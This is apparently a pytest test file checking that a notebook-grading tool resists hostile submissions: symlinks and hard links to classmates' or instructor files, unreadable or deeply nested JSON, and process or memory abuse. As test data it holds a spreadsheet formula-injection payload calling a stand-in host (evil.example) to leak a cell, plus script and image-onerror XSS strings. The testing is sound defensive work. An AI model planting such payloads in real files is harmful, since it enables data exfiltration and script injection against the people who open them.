"""Submission hygiene (issue 35): what a submissions folder may hold besides honest notebooks.

One test per attack: links (symbolic, to a file or a folder, hard, out of the folder) are not
graded as anyone's and are listed for the instructor; no CSV the grader writes holds a formula;
no report or feedback file holds a student's HTML unescaped; a student whose notebook cannot be
read is told why; no process is left behind (zombie or alive) after grading.
"""

from __future__ import annotations

import copy
import csv
import json
import os
from pathlib import Path

import nbformat
import pytest

from grading import chapters, grade, gradebook, reports, submissions
from tests.grading.fake import fake_chapter
from tools import notebooks

CHAPTER = grade.ROOT / "book" / "online-softmax.md"
FORMULA = '=HYPERLINK("evil.example?x="&A1,"click")'  # no "/": also a folder's name
SCRIPT = "<script>alert(1)</script>"
TAG = "<img src=x onerror=alert(1)>"  # no "/": a folder's name


def official() -> nbformat.NotebookNode:
    return nbformat.read(notebooks.target(CHAPTER, student=True), as_version=4)


def write(path: Path, nb: nbformat.NotebookNode | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb or official(), path)
    return path


# -- links -------------------------------------------------------------------------------------

def found(folder: Path) -> tuple[dict[str, str], dict[str, str]]:
    skipped: list[submissions.Skipped] = []
    subs = submissions.find_submissions(folder, None, skipped)
    return {s.notebook: s.student for s in subs}, {s.path: s.why for s in skipped}


def test_a_symbolic_link_to_a_classmates_notebook_is_not_graded(tmp_path):
    classmate = write(tmp_path / "subs" / "alice" / "online-softmax.ipynb")
    (tmp_path / "subs" / "mallory").mkdir()
    (tmp_path / "subs" / "mallory" / "online-softmax.ipynb").symlink_to(classmate)
    graded, skipped = found(tmp_path / "subs")
    assert graded == {"alice/online-softmax.ipynb": "alice"}
    assert "symbolic link" in skipped["mallory/online-softmax.ipynb"]


def test_a_symbolic_link_to_a_folder_is_not_followed(tmp_path):
    write(tmp_path / "subs" / "alice" / "online-softmax.ipynb")
    (tmp_path / "subs" / "mallory").symlink_to(tmp_path / "subs" / "alice")
    graded, skipped = found(tmp_path / "subs")
    assert graded == {"alice/online-softmax.ipynb": "alice"}
    assert "symbolic link to a folder" in skipped["mallory"]


def test_a_hard_link_is_not_graded_as_anyones(tmp_path):
    classmate = write(tmp_path / "subs" / "alice" / "online-softmax.ipynb")
    (tmp_path / "subs" / "mallory").mkdir()
    os.link(classmate, tmp_path / "subs" / "mallory" / "online-softmax.ipynb")
    graded, skipped = found(tmp_path / "subs")
    assert graded == {}
    assert set(skipped) == {"alice/online-softmax.ipynb", "mallory/online-softmax.ipynb"}
    assert all("hard link" in why for why in skipped.values())


def test_a_link_to_a_file_outside_the_folder_is_not_graded(tmp_path):
    secret = tmp_path / "instructor" / "solutions.ipynb"
    write(secret)
    (tmp_path / "subs" / "mallory").mkdir(parents=True)
    (tmp_path / "subs" / "mallory" / "online-softmax.ipynb").symlink_to(secret)
    (tmp_path / "subs" / "eve.ipynb").symlink_to("../instructor/solutions.ipynb")
    graded, skipped = found(tmp_path / "subs")
    assert graded == {}
    assert set(skipped) == {"mallory/online-softmax.ipynb", "eve.ipynb"}


# -- notebooks that cannot be read: the reason, in words --------------------------------------

@pytest.mark.parametrize(("content", "why"), [
    (b'{"cells": [', "not valid JSON"),
    ('{"cells": [], "metadata": {"name": "Jos\u00e9"}}'.encode("latin-1"),
     "not UTF-8 text: byte 0xe9"),
    (b"[" * 100_000 + b"]" * 100_000, "nested 100000 levels deep"),
    (b'{"hello": 1}', "not a notebook"),
])
def test_why_a_notebook_could_not_be_read(tmp_path, content, why):
    path = tmp_path / "x.ipynb"
    path.write_bytes(content)
    nb, reason = submissions.read_notebook(path)
    assert nb is None and why in reason


def test_a_readable_notebook_is_read(tmp_path):
    nb, reason = submissions.read_notebook(write(tmp_path / "x.ipynb"))
    assert reason == "" and nb is not None and nb.cells


# -- what the reports hold --------------------------------------------------------------------

def reported(tmp_path: Path, student: str = FORMULA) -> Path:
    """The reports of a made-up result: one student named with a formula and HTML, whose
    checker message, notes, output and notebook name hold both."""
    loaded = chapters.load_chapters()
    chapter = loaded["online-softmax"]
    rows = [reports.Row(student, f"{student}/{SCRIPT}.ipynb", "online-softmax", number,
                        "failed", 0, 1, first_problem=f"{FORMULA} {SCRIPT}",
                        feedback=f"{SCRIPT}\n```\n<img src=x onerror=alert(1)>",
                        output=SCRIPT, notes=[SCRIPT])
            for number in chapter.exercises]
    rows.append(reports.Row(student, f"{SCRIPT}.ipynb", "", "", "unreadable",
                            first_problem=f"not a readable notebook: {SCRIPT}"))
    out = tmp_path / "report"
    reports.write_reports(rows, {"online-softmax": chapter}, out, timeout=5,
                          context_errors={}, chapter_names=["online-softmax"],
                          info={"skipped": [(f"{SCRIPT}.ipynb", "a symbolic link")]})
    return out


def test_no_csv_the_grader_writes_holds_a_formula(tmp_path):
    out = reported(tmp_path)
    files = sorted(out.glob("*.csv"))
    assert {f.name for f in files} >= {"results.csv", "gradebook.csv", "nbgrader_grades.csv",
                                       "otter_final_grades_online-softmax.csv"}
    for path in files:
        with open(path, encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for value in row:
                    if value == "--":  # otter's own grading_status of its points row
                        continue
                    assert not value.startswith(gradebook.FORMULA_START), (path.name, value)
    with open(out / "gradebook.csv", encoding="utf-8", newline="") as f:
        assert next(csv.DictReader(f))["student_id"] == "'" + FORMULA


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(value):
    assert gradebook.csv_cell(value) == "'" + value
    assert gradebook.csv_cell(3) == 3 and gradebook.csv_cell("alice") == "alice"


def test_no_report_holds_a_students_html(tmp_path):
    out = reported(tmp_path)
    texts = {p.relative_to(out).as_posix(): p.read_text(encoding="utf-8")
             for p in [out / "summary.md", *(out / "feedback").glob("*.md")]}
    assert len(texts) == 2
    for name, text in texts.items():
        assert "<script" not in text and "<img" not in text, name
        assert "&lt;script&gt;" in text, name


def test_the_student_is_told_why_a_notebook_was_not_graded(tmp_path):
    out = reported(tmp_path, "hal")
    feedback = (out / "feedback" / "hal.md").read_text(encoding="utf-8")
    assert "## Notebooks that could not be graded" in feedback
    assert "not a readable notebook: &lt;script&gt;" in feedback


def test_links_are_listed_for_the_instructor(tmp_path):
    summary = (reported(tmp_path) / "summary.md").read_text(encoding="utf-8")
    assert "## Files not graded as anyone's" in summary
    assert "&lt;script&gt;alert(1)&lt;/script&gt;.ipynb | a symbolic link" in summary


# -- a class with all of it, graded: no child left behind -------------------------------------

def _children_of(pid: int) -> list[tuple[int, str]]:
    """(pid, state) of every process whose parent is ``pid``."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as f:
                    fields = f.read().rpartition(")")[2].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append((int(entry), fields[0]))
    return found


@pytest.mark.sandbox
@pytest.mark.slow  # a class graded in the sandbox
def test_a_hostile_folder_graded_end_to_end(tmp_path):
    subs, out = tmp_path / "subs", tmp_path / "out"
    nb = copy.deepcopy(official())
    write(subs / "alice" / "online-softmax.ipynb", nb)
    write(subs / FORMULA / "online-softmax.ipynb", nb)
    write(subs / TAG / "online-softmax.ipynb", nb)
    (subs / "mallory").mkdir()
    (subs / "mallory" / "online-softmax.ipynb").symlink_to(subs / "alice" / "online-softmax.ipynb")
    (subs / "hal").mkdir()
    (subs / "hal" / "online-softmax.ipynb").write_bytes(b'{"cells": [')
    before = {pid for pid, _ in _children_of(os.getpid())}
    grade.grade(subs, out, timeout=8.0, jobs=2, chapter_names=["online-softmax"])
    left = [(pid, state) for pid, state in _children_of(os.getpid()) if pid not in before]
    assert left == [], "processes left behind (Z: zombies)"
    summary = (out / "summary.md").read_text(encoding="utf-8")
    assert "| mallory/online-softmax.ipynb | a symbolic link" in summary
    assert "<img" not in summary and "&lt;img src=x" in summary
    with open(out / "gradebook.csv", encoding="utf-8", newline="") as f:
        ids = [r["student_id"] for r in csv.DictReader(f)]
    assert sorted(ids) == sorted(["alice", "'" + FORMULA, TAG, "hal"])
    hal = (out / "feedback" / "hal.md").read_text(encoding="utf-8")
    assert "the file is not valid JSON" in hal
    for path in (out / "feedback").glob("*.md"):
        assert "<img" not in path.read_text(encoding="utf-8")
    results = json.loads((out / "results.json").read_text(encoding="utf-8"))
    assert {r["student"] for r in results} == {"alice", FORMULA, TAG, "hal"}


# -- the book's own solutions, as the made-up class's "solution" student hands them in ---------

@pytest.mark.sandbox
@pytest.mark.slow  # every chapter graded in the sandbox
def test_the_books_solutions_pass_every_exercise_through_the_grader(tmp_path):
    """The made-up class's "solution" student is the book's solution blocks, unedited
    (grading.chapters.solutions has no hand-written fixes): every exercise passes."""
    from grading import made_up_class

    made_up_class.write_class(tmp_path / "subs", students=1, profiles=["solution"])
    rows = grade.grade(tmp_path / "subs", tmp_path / "out", timeout=60.0, jobs=2)
    graded = [r for r in rows if r.exercise]
    assert len(graded) == 56
    assert [(r.exercise, r.status, r.first_problem) for r in graded
            if r.status != "passed"] == []


# -- memory, measured outside the student's process --------------------------------------------

def test_memory_is_measured_by_the_grader_and_capped(tmp_path):
    """The zygote reads the exercise's peak resident memory from /proc (the student's code
    cannot change it): an exercise holding 400 MB shows it; one asking for more than its
    limit is stopped (MemoryError under RLIMIT_AS) and flagged."""

    from grading import sandbox

    chapter = fake_chapter(("exercise", "1"), ("exercise", "2"), ("exercise", "3"))
    empty = ("def empty(n_q, d_v):\n    return np.full(n_q, -np.inf), np.zeros(n_q), "
             "np.zeros((n_q, d_v))\n")
    too_much = sandbox.LIMITS["memory"] + 2**30
    tasks = [{"id": "small", "exercise": "1", "cells": [empty]},
             {"id": "big", "exercise": "2",
              "cells": ["held = np.ones(50_000_000)  # 400 MB\n" + empty]},
             {"id": "huge", "exercise": "3",
              "cells": [f"held = np.ones({too_much // 8})\n" + empty]}]
    found, errors = grade.grade_chapter(chapter, tasks, 20.0, 1, tmp_path / "logs")
    assert errors == []
    small, big = found["small"]["memory"], found["big"]["memory"]
    assert small["peak_bytes"] > 0 and small["chapter_bytes"] > 0
    assert big["peak_bytes"] - small["peak_bytes"] > 350e6
    assert found["big"]["status"] == "passed"
    assert found["huge"]["status"] != "passed"
    assert any("hit the memory limit" in f for f in found["huge"]["flags"])
